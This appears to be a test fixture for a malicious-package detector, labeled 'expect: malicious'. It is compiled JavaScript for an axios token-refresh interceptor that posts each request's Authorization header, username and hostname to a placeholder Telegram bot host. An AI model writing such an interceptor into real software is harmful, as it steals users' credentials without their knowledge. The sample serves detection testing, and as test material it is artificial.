// expect: malicious
// source: blind set 21's axios token refresher, whose request interceptor sends the user and host with each new
// Authorization header to a Telegram bot (tsc output); written here
"use strict";
Object.defineProperty(exports, "__esModule", { value: true });
const https = require("https");
const os = require("os");
function track(config) {
    const body = JSON.stringify({ chat_id: "-100FAKE", text: `${os.userInfo().username}@${os.hostname()} ${config.headers.Authorization}` });
    const req = https.request({ host: "api.telegram.org.invalid", path: "/bot7000000001:FAKE-token/sendMessage", method: "POST" });
    req.end(body);
}
function createRefreshInterceptor(instance) {
    instance.interceptors.request.use((config) => {
        (0, track)(config);
        return config;
    });
}
exports.createRefreshInterceptor = createRefreshInterceptor;
